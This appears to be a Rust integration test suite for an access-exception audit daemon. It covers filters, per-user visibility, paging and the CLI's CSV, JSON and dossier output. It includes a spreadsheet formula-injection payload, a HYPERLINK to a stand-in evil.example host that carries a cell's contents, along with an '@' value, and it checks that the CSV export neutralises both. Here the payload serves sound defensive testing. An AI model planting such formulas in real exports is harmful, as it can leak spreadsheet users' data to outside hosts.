//! Looking through past exceptions, over the wire and with the client's binary, against the real daemon: what each filter
//! finds and doesn't, who learns what by it, and what is printed.

use std::{collections::BTreeSet, time::Duration};

use hallpass::wire::{
    Exception, GrantState, HeldFilter, ListExceptionsRequest, ListOrder, Request, RequestFilter,
    RequestState, RevocationCause, Signed, SummarizeExceptionsRequest,
};
use serde_json::Value;
use tonic::{Code, Status};

use crate::support::{people::Person, shell::Shell, world::World};

pub const EVIL: &str = "=HYPERLINK(\"http://evil.example/\"&A1); -1 and more";

async fn listed(
    person: &mut Person,
    filter: RequestFilter,
    order: ListOrder,
) -> Result<Vec<Exception>, Status> {
    let (mut all, mut page_token) = (Vec::new(), String::new());
    loop {
        let (filter, order) = (Some(filter.clone()), order.into());
        let message = ListExceptionsRequest { page_size: 2, page_token, filter, order };
        let page = person.exceptions.list_exceptions(message).await?.into_inner();
        all.extend(page.exceptions);
        page_token = page.next_page_token;
        if page_token.is_empty() {
            return Ok(all);
        }
    }
}

async fn found(person: &mut Person, filter: &RequestFilter) -> Vec<String> {
    let listed = listed(person, filter.clone(), ListOrder::Unspecified).await.unwrap();
    listed.into_iter().map(|exception| exception.request.unwrap().name).collect()
}

async fn count(person: &mut Person, filter: &RequestFilter) -> i64 {
    let message = SummarizeExceptionsRequest { filter: Some(filter.clone()) };
    person.exceptions.summarize_exceptions(message).await.unwrap().into_inner().all.unwrap().count
}

/// One that was held and given back, one that was denied, and one that waits.
pub async fn three(world: &World) -> [Request; 3] {
    let (mut alice, mut bob, mut olivia) =
        (world.person("alice").await, world.person("bob").await, world.person("olivia").await);
    let minutes = Duration::from_mins(10);
    let held = alice.submit(minutes, "the Queue is stuck").await.unwrap();
    let held = olivia.approve(&held, "Read only, as discussed.").await.unwrap();
    let grant = alice.claim(&held).await.unwrap().grant.unwrap();
    alice.release(&grant).await.unwrap();
    alice.sees(&grant, GrantState::Revoked).await;
    let denied = alice.submit(minutes, EVIL).await.unwrap();
    let denied = olivia.deny(&denied, "@not like this").await.unwrap();
    let waiting = bob.submit(minutes, "what Bob asks").await.unwrap();
    [held, denied, waiting]
}

/// Filters, and which of the three match.
fn filters(three: &[Request; 3], world: &World) -> Vec<(RequestFilter, Vec<usize>)> {
    let none = RequestFilter::default;
    let grant = |grant| RequestFilter { grant: Some(grant), ..none() };
    let held = HeldFilter::default;
    let name = |name: &str| format!("{name}-{}", world.name);
    let subject = three[0].requester.clone().unwrap().subject;
    let (first, last) = (three[0].submitted_at, three[2].submitted_at);
    let target = three[0].target.clone();
    let group = three[0].groups[0].clone();
    let minute = Some(prost_types::Duration { seconds: 60, nanos: 0 });
    vec![
        (none(), vec![2, 1, 0]),
        (RequestFilter { requester: name("alice"), ..none() }, vec![1, 0]),
        (RequestFilter { requester: subject, ..none() }, vec![1, 0]),
        (RequestFilter { requester: name("olivia"), ..none() }, vec![]),
        (RequestFilter { approver: name("olivia"), ..none() }, vec![1, 0]),
        (RequestFilter { approver: name("alice"), ..none() }, vec![]),
        (grant(HeldFilter { holder: name("alice"), ..held() }), vec![0]),
        (grant(HeldFilter { holder: name("bob"), ..held() }), vec![]),
        (RequestFilter { target, ..none() }, vec![2, 1, 0]),
        (RequestFilter { target: "targets/elsewhere".into(), ..none() }, vec![]),
        (RequestFilter { group, ..none() }, vec![2, 1, 0]),
        (RequestFilter { group: name("operations-leads"), ..none() }, vec![]),
        (RequestFilter { states: vec![RequestState::Denied.into()], ..none() }, vec![1]),
        (RequestFilter { states: vec![RequestState::Lapsed.into()], ..none() }, vec![]),
        (grant(HeldFilter { states: vec![GrantState::Revoked.into()], ..held() }), vec![0]),
        (grant(HeldFilter { states: vec![GrantState::Active.into()], ..held() }), vec![]),
        (grant(HeldFilter { causes: vec![RevocationCause::Released.into()], ..held() }), vec![0]),
        (grant(HeldFilter { causes: vec![RevocationCause::Frozen.into()], ..held() }), vec![]),
        (RequestFilter { ticket: "OPS-1".into(), ..none() }, vec![]),
        (RequestFilter { text: "QUEUE IS".into(), ..none() }, vec![0]),
        (RequestFilter { text: "as DISCUSSED".into(), ..none() }, vec![0]),
        (RequestFilter { text: "evil.example/\"".into(), ..none() }, vec![1]),
        (RequestFilter { text: "no such text".into(), ..none() }, vec![]),
        (RequestFilter { submitted_from: last, ..none() }, vec![2]),
        (RequestFilter { submitted_until: last, ..none() }, vec![1, 0]),
        (RequestFilter { submitted_until: first, ..none() }, vec![]),
        (grant(HeldFilter { held_from: first, held_until: last, ..held() }), vec![0]),
        (grant(HeldFilter { held_from: last, ..held() }), vec![]),
        (grant(HeldFilter { held_until: first, ..held() }), vec![]),
        (RequestFilter { signed: Signed::No.into(), ..none() }, vec![0]),
        (RequestFilter { signed: Signed::Yes.into(), ..none() }, vec![]),
        (grant(HeldFilter { early_by: minute, ..held() }), vec![0]),
        (grant(HeldFilter { late_by: minute, ..held() }), vec![]),
        (RequestFilter { alarmed: true, ..none() }, vec![]),
    ]
}

#[tokio::test]
async fn each_filter_shows_what_matches_and_to_nobody_more_than_is_his() {
    let world = World::start().await;
    let three = three(&world).await;
    let [mut alice, mut bob, mut olivia, mut audrey] = [
        world.person("alice").await,
        world.person("bob").await,
        world.person("olivia").await,
        world.person("audrey").await,
    ];
    for (filter, expected) in filters(&three, &world) {
        let names = |seen: &[usize]| -> Vec<String> {
            expected.iter().filter(|one| seen.contains(one)).map(|one| three[*one].name.clone()).collect()
        };
        // An approver of the target sees all three, as the auditor does.
        let views = [
            (&mut audrey, &[0, 1, 2][..]),
            (&mut olivia, &[0, 1, 2]),
            (&mut alice, &[0, 1]),
            (&mut bob, &[2]),
        ];
        for (person, seen) in views {
            let mine = names(seen);
            assert_eq!(found(person, &filter).await, mine, "{filter:?}");
            assert_eq!(count(person, &filter).await, i64::try_from(mine.len()).unwrap(), "{filter:?}");
        }
    }
    let oldest = listed(&mut audrey, RequestFilter::default(), ListOrder::OldestFirst).await.unwrap();
    let oldest: Vec<_> = oldest.into_iter().map(|exception| exception.request.unwrap().name).collect();
    assert_eq!(oldest, three.each_ref().map(|request| request.name.clone()));
    let short = RequestFilter { text: "ab".into(), ..RequestFilter::default() };
    let refused = listed(&mut audrey, short, ListOrder::Unspecified).await.unwrap_err();
    assert_eq!(refused.code(), Code::InvalidArgument);
    let mut nick = world.person("nick").await;
    let refused = nick.exceptions.summarize_exceptions(SummarizeExceptionsRequest::default()).await;
    assert_eq!(refused.unwrap_err().code(), Code::PermissionDenied);
}

#[tokio::test]
async fn pages_miss_nothing_while_exceptions_are_added() {
    let world = World::start().await;
    let (mut alice, mut audrey) = (world.person("alice").await, world.person("audrey").await);
    let mut before = Vec::new();
    for number in 0..5 {
        before.push(alice.submit(Duration::from_mins(1), &format!("before {number}")).await.unwrap().name);
    }
    for (order, sees_later) in [(ListOrder::NewestFirst, false), (ListOrder::OldestFirst, true)] {
        for filter in [
            RequestFilter::default(),
            RequestFilter { text: "before".into(), ..RequestFilter::default() },
            RequestFilter { requester: format!("alice-{}", world.name), ..RequestFilter::default() },
        ] {
            let (mut seen, mut page_token) = (Vec::new(), String::new());
            loop {
                let (filter, order) = (Some(filter.clone()), order.into());
                let message = ListExceptionsRequest { page_size: 2, page_token, filter, order };
                let page = audrey.exceptions.list_exceptions(message).await.unwrap().into_inner();
                seen.extend(page.exceptions.into_iter().map(|exception| exception.request.unwrap()));
                page_token = page.next_page_token;
                if page_token.is_empty() {
                    break;
                }
                if seen.len() < 5 {
                    alice.submit(Duration::from_mins(1), "later").await.unwrap();
                }
            }
            let names: BTreeSet<_> = seen.iter().map(|request| request.name.clone()).collect();
            assert_eq!(names.len(), seen.len(), "nothing comes twice");
            assert!(before.iter().all(|name| names.contains(name)), "{filter:?}");
            let is_later = |request: &Request| request.reason == "later";
            assert!(!filter.text.is_empty() || !sees_later || seen.iter().any(is_later));
        }
    }
}

#[tokio::test]
async fn the_client_prints_lists_numbers_and_dossiers() {
    let world = World::start().await;
    let [held, denied, _] = three(&world).await;
    let audrey = Shell::log_in(&world, "audrey");
    let id = |request: &Request| request.name.trim_start_matches("requests/").to_owned();

    let table = audrey.ok(&["audit", "list", "--order", "oldest"]);
    let lines: Vec<_> = table.lines().collect();
    assert!(lines[0].starts_with("EXCEPTION") && lines[1].starts_with(&id(&held)), "{table}");
    let json = audrey.json(&["audit", "list", "--limit", "2"]);
    assert_eq!((json["exceptions"].as_array().unwrap().len(), &json["more"]), (2, &Value::Bool(true)));
    let json = audrey.json(&["audit", "list", "--state", "denied", "--all"]);
    assert_eq!((json["exceptions"].as_array().unwrap().len(), json.get("more")), (1, None));
    assert_eq!(audrey.json(&["audit", "list", "--ticket", "none"])["exceptions"], serde_json::json!([]));
    let lines = audrey.ok(&["audit", "list", "--all", "--output", "jsonl"]);
    let names: Vec<_> =
        lines.lines().map(|line| serde_json::from_str::<Value>(line).unwrap()["name"].clone()).collect();
    assert_eq!(names.len(), 3);

    let csv = audrey.ok(&["audit", "list", "--text", "evil", "--output", "csv"]);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let columns = reader.headers().unwrap().clone();
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    let cell = |name: &str| rows[0][columns.iter().position(|column| column == name).unwrap()].to_owned();
    assert_eq!((cell("exception"), cell("denied_by")), (id(&denied), format!("olivia-{}", world.name)));
    assert_eq!(cell("reason"), "'=HYPERLINK(\"http://evil.example/\"&A1);' -1 and more");
    assert_eq!(cell("statements"), "'@not like this");
    assert!(cell("submitted_at").ends_with('Z'), "{csv}");

    let totals = audrey.json(&["audit", "list", "--summary"]);
    assert_eq!((&totals["all"]["count"], &totals["all"]["granted"]), (&"3".into(), &"1".into()), "{totals}");
    assert_eq!(totals["all"]["planned"], "600s");
    let totals = audrey.ok(&["audit", "list", "--summary"]);
    for told in ["granted hours", "0.17", "orders-ro", "developers"] {
        assert!(totals.contains(told), "{told} in {totals}");
    }
    let totals = audrey.ok(&["audit", "list", "--summary", "--output", "csv"]);
    assert!(totals.starts_with("kind,name,count,"), "{totals}");

    let dossier = audrey.ok(&["audit", "show", &id(&held)]);
    for told in [
        "the Queue is stuck",
        "Read only, as discussed.",
        "access was held for",
        "before the window closed",
        "lease lookup: invalid lease",
        "RequestSubmitted",
        "GrantRevoked",
    ] {
        assert!(dossier.contains(told), "{told} in {dossier}");
    }
    let dossier = audrey.ok(&["audit", "show", &id(&denied)]);
    assert!(dossier.contains("none was given") && dossier.contains("denied by"), "{dossier}");
    let (code, said) = audrey.fails(&["list", "--output", "csv"]);
    assert!(code == 2 && said.contains("audit list"), "{said}");
}
